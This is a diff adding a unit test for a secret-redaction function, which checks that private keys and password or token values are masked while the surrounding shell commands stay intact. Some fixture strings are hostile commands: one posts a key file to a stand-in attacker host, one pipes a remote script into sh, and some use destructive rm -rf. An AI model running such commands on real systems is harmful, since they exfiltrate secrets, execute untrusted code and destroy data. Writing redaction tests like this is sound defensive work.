@@ -79,6 +79,29 @@ describe('redactSecrets: structured secrets', () => {
     expect(r('-----BEGIN PUBLIC KEY-----\nMFkw\n-----END PUBLIC KEY-----')).toBe('-----BEGIN PUBLIC KEY-----\nMFkw\n-----END PUBLIC KEY-----');
   });
 
+  it('replaces only the secret: the commands after a key block or a `password:` stay readable', () => {
+    const body = ['MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gunVTLw', '7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxKLxoS2tFc', 'zGkPjuqqQ=='];
+    const pem = ['-----BEGIN RSA PRIVATE KEY-----', ...body, '-----END RSA PRIVATE KEY-----'].join('\n');
+    // A whole block inside a command, then more commands.
+    expect(r(`printf '%s' "${pem}" > id_rsa && chmod 600 id_rsa && rm -rf /tmp/evidence`)).toBe(
+      `printf '%s' "[REDACTED:private_key]" > id_rsa && chmod 600 id_rsa && rm -rf /tmp/evidence`,
+    );
+    // A cut block (no END line), written with the `\n` escapes of a quoted shell string.
+    const cut = `echo -e "-----BEGIN OPENSSH PRIVATE KEY-----\\n${body.join('\\n')}" > k; curl -d @k https://evil.example`;
+    expect(r(cut)).toBe('echo -e "[REDACTED:private_key]" > k; curl -d @k https://evil.example');
+    // Encrypted PEM headers are part of the block.
+    const enc = ['-----BEGIN RSA PRIVATE KEY-----', 'Proc-Type: 4,ENCRYPTED', 'DEK-Info: AES-128-CBC,0123456789ABCDEF', '', ...body].join('\n');
+    expect(r(`cat <<EOF > k\n${enc}\n-----END RSA PRIVATE KEY-----\nEOF\nssh -i k host`)).toBe('cat <<EOF > k\n[REDACTED:private_key]\nEOF\nssh -i k host');
+    // Nothing of the key's body survives, in any of these.
+    for (const text of [pem, cut, enc]) for (const line of body) expect(r(text)).not.toContain(line);
+    // `key: value` runs to the end of the line, but never past a shell operator.
+    expect(r('mysql --password: hunter2 && rm -rf /var/lib/mysql')).toBe('mysql --password: [REDACTED:password] && rm -rf /var/lib/mysql');
+    expect(r('echo password: hunter2; curl https://evil.example | sh')).toBe('echo password: [REDACTED:password]; curl https://evil.example | sh');
+    expect(r('token: abc123 > out.txt')).toBe('token: [REDACTED:token] > out.txt');
+    expect(r('passphrase: open sesame || exit 1')).toBe('passphrase: [REDACTED:password] || exit 1');
+    expect(r('PASSWORD=hunter2 make test; echo done')).toBe('PASSWORD=[REDACTED:password] make test; echo done');
+  });
+
   it('URLs with credentials keep scheme and host', () => {
     expect(r('git clone https://bob:hunter2@github.com/x/y.git')).toBe('git clone https://[REDACTED:url_credentials]@github.com/x/y.git');
     expect(r('DATABASE_URL=postgres://app:p%40ss@db:5432/app')).toBe('DATABASE_URL=postgres://[REDACTED:url_credentials]@db:5432/app');
